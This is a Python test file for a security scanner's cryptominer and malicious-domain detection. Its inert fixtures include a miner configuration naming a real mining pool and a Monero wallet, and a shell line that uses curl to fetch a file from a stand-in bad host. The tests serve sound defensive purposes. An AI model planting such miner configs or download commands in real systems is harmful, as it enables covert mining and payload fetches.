#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# timeout: 300
# beside: others
"""
Miners, names and impostors through the whole of `koban image scan`, over folders: what is planted is
found with its evidence and gives its verdict, feeds are heard, a feed's mistake is named with file and
line, and Debian's monero package can mine but is not malicious. All plants are inert text; the wallet
is the Monero project's documented donation address.
"""
import json
import os
import subprocess
import tempfile
from pathlib import Path

from koban import Tap

TAP = Tap()
KOBAN = Path(os.environ["KOBAN_BUILD"]) / "src/cmd/koban"
WALLET = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVG"
          "QBEP3A")
CONFIG = {"cpu": {"huge-pages": True}, "donate-level": 1,
          "pools": [{"algo": "rx/0", "url": "pool.supportxmr.com:3333", "user": WALLET, "pass": "x"}]}


def scan(folder, *args):
    done = subprocess.run([KOBAN, "image", "scan", "--json", "--no-cache", *args, f"dir:{folder}"],
                          capture_output=True, text=True, check=False, timeout=250)
    try:
        return done, json.loads(done.stdout)
    except ValueError:
        return done, {}


def plant(root, files):
    for path, text in files.items():
        file = Path(root) / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, "utf-8")


def found(report, check):
    return [f for f in report.get("findings", []) if f["check"] == check]


def facts(finding):
    return {f["key"]: f["value"] for f in finding.get("facts", [])}


def test_config(tmp):
    plant(tmp, {"root/c.json": json.dumps(CONFIG, indent=1)})
    done, report = scan(tmp, "--only", "miners")
    f = (found(report, "miner-config") or [{}])[0]
    TAP.ok(facts(f).get("wallet") == WALLET and facts(f).get("pool") == "pool.supportxmr.com:3333" and
           f.get("severity") == "critical" and report.get("verdict") == "malicious" and
           report.get("labels") == ["cryptomining"],
           "a configuration with a pool and a wallet whose checksum is right is malicious",
           done.stdout + done.stderr)
    broken = json.loads(json.dumps(CONFIG))
    broken["pools"][0].update(url="donate.v2.xmrig.com:3333", user="YOUR_WALLET_ADDRESS")
    plant(tmp, {"root/c.json": json.dumps(broken)})
    done, report = scan(tmp, "--only", "miners")
    TAP.ok(len(found(report, "miner-config-stock")) == 1 and report.get("verdict") != "malicious" and
           report.get("labels") == ["miner-capable"],
           "as it comes with the program, it is miner-capable and no more", done.stdout + done.stderr)


def test_feed(tmp):
    plant(tmp, {"run.sh": "#!/bin/sh\ncurl -s http://a.bad-site.example.org/x -o /tmp/x\n"})
    feed = Path(tmp) / "feed.txt"
    feed.write_text("bad-site.example.org  test\n", "utf-8")
    done, report = scan(tmp, "--only", "network")
    TAP.ok(not found(report, "network-malicious"), "a domain that nobody lists is not said",
           done.stdout)
    done, report = scan(tmp, "--only", "network", "--feed", feed)
    f = (found(report, "network-malicious") or [{}])[0]
    TAP.ok(facts(f).get("domain") == "a.bad-site.example.org" and f.get("line") == 2 and
           "malicious-site" in report.get("labels", []),
           "one that a feed lists is", done.stdout + done.stderr)
    feed.write_text("good.example.org\nhttp://bad.example.org/x\n", "utf-8")
    done, report = scan(tmp, "--feed", feed)
    TAP.ok(done.returncode == 2 and "feed.txt:2:" in done.stderr, "a feed's mistake has its place",
           done.stderr)


def test_monero(tmp):
    why = None
    got = subprocess.run(["apt-get", "download", "monero"], cwd=tmp, capture_output=True, text=True,
                         check=False)
    debs = list(Path(tmp).glob("monero_*.deb"))
    if got.returncode or not debs:
        why = "cannot be downloaded: " + (got.stderr.strip().splitlines() or ["no package"])[-1]
    name = "Debian's monero can mine, and is not malicious"
    if why:
        TAP.skip(name, why)
        return
    root = Path(tmp) / "root"
    subprocess.run(["dpkg-deb", "-x", debs[0], root], check=True)
    done, report = scan(root)
    grave = [f for f in report.get("findings", []) if f["severity"] in ("critical", "high", "medium")]
    TAP.ok("miner-capable" in report.get("labels", []) and not grave and
           "cryptomining" not in report["labels"] and report["verdict"] == "clean",
           name, grave or done.stderr)


def main():
    for test in (test_config, test_feed, test_monero):
        with tempfile.TemporaryDirectory(prefix="koban-mining-") as tmp:
            test(tmp)
    TAP.done()


main()
